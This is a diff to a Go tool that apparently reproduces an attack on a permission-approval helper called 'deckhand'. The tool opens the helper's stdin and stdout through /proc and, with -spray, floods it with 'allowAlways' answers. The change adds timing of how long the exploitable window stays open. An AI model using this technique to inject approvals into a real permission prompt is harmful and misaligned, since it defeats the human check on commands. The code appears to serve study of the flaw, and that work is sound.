@@ -3,7 +3,9 @@
 // tries to open its stdin and stdout through /proc, as a command left
 // behind by an earlier allowed command could. It prints one line per
 // deckhand it saw while it could still read the process's exe link:
-// "<pid> fd0 opened|refused fd1 opened|refused". With -spray, it keeps the
+// "<pid> fd0 opened|refused fd1 opened|refused open-us <n>", n being how
+// long after that the process stayed dumpable (or ran at all), in
+// microseconds. With -spray, it keeps the
 // stdin it opened and writes "allowAlways" answers for every small id into
 // it until deckhand is gone, as the attack did. It runs until stdin closes.
 package main
@@ -59,7 +61,8 @@ func main() {
 				}
 				continue
 			}
-			fmt.Printf("%d fd0 %s fd1 %s\n", pid, try(pid, 0, syscall.O_WRONLY), try(pid, 1, syscall.O_RDONLY))
+			fd0, fd1 := try(pid, 0, syscall.O_WRONLY), try(pid, 1, syscall.O_RDONLY)
+			fmt.Printf("%d fd0 %s fd1 %s open-us %d\n", pid, fd0, fd1, openFor(pid, target))
 		}
 	}
 }
@@ -84,6 +87,18 @@ func sprayAnswers(fd int) {
 		}
 		time.Sleep(5 * time.Millisecond)
 	}
+}
+
+// openFor is how long, in microseconds from now, the process's exe link
+// stays readable: the rest of the window, seen from the grabber.
+func openFor(pid int, exe string) int64 {
+	t0 := time.Now()
+	for time.Since(t0) < time.Second {
+		if e, err := os.Readlink("/proc/" + strconv.Itoa(pid) + "/exe"); err != nil || e != exe {
+			break
+		}
+	}
+	return time.Since(t0).Microseconds()
 }
 
 func try(pid, fd, mode int) string {
